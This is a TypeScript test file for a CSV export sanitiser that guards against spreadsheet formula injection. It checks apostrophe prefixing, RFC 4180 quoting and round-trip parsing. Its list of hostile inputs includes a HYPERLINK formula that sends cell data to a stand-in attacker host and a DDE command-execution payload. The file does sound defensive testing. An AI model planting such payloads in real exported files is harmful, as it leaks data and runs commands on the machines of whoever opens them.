/**
 * E1: formula injection in CSV exports. Trigger-led cells get a leading apostrophe (NUL and the
 * full-width forms included, which papaparse's escapeFormulae misses), fields are quoted per RFC
 * 4180, and parsing the output back gives the original text once the added apostrophe is removed.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvRow, neutraliseCell, quoteField } from '../../../shared/csv';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''+2",
];
const BENIGN = ['plain', 'with "quotes" inside', 'comma, separated', 'line\nbreak', 'crlf\r\ninside', '', "it's fine", '1-2', 'a=b', ' =leading space'];

/** What a consumer does: drop the one apostrophe we add before a (possibly apostrophe-led) trigger. */
const restore = (cell: string) => (/^''*[=+\-@\t\r\0\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) ? cell.slice(1) : cell);

describe('E1 CSV neutraliser', () => {
  it('prefixes every trigger-led cell with an apostrophe (13/13), including NUL and full-width forms', () => {
    for (const v of HOSTILE) expect(neutraliseCell(v), JSON.stringify(v)).toBe(`'${v}`);
  });

  it('leaves other cells alone', () => {
    for (const v of BENIGN) expect(neutraliseCell(v)).toBe(v);
  });

  it('quotes per RFC 4180 only where needed, doubling quotes', () => {
    expect(quoteField('a"b')).toBe('"a""b"');
    expect(quoteField('a,b')).toBe('"a,b"');
    expect(quoteField('a\nb')).toBe('"a\nb"');
    expect(quoteField('plain')).toBe('plain');
    expect(csvRow(['x', null, 3, true])).toBe('x,,3,true\r\n');
  });

  it('round-trips: re-parsing the output gives back the original text of every cell', () => {
    const cells = [...HOSTILE, ...BENIGN];
    const text = csvRow(cells) + csvRow(cells.slice().reverse());
    const parsed = Papa.parse<string[]>(text, { newline: '\r\n' }).data.filter((r) => r.length > 1);
    expect(parsed).toHaveLength(2);
    expect(parsed[0].map(restore)).toEqual(cells);
    expect(parsed[1].map(restore)).toEqual(cells.slice().reverse());
    // No parsed cell starts with a trigger: a spreadsheet sees text, not a formula.
    for (const cell of parsed.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\0\uFF1D\uFF0B\uFF0D\uFF20]/);
  });
});
